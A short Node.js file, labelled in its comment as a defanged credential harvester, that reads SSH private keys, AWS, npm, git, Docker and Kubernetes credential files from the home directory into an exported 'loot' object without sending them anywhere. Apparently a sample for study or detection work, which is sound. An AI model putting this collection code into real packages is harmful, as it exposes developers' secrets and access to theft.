// defanged shape of a credential harvester: reads, never sends
const fs = require('fs');
const os = require('os');
const path = require('path');

const home = os.homedir();
const targets = [
  path.join(home, '.npmrc'),
  path.join(home, '.ssh', 'id_rsa'),
  path.join(home, '.ssh', 'id_ed25519'),
  path.join(home, '.aws', 'credentials'),
  path.join(home, '.git-credentials'),
  path.join(home, '.docker', 'config.json'),
  path.join(home, '.kube', 'config'),
];

const loot = {};
for (const p of targets) {
  try { loot[p] = fs.readFileSync(p, 'utf8'); } catch (e) { /* missing */ }
}
module.exports = loot;
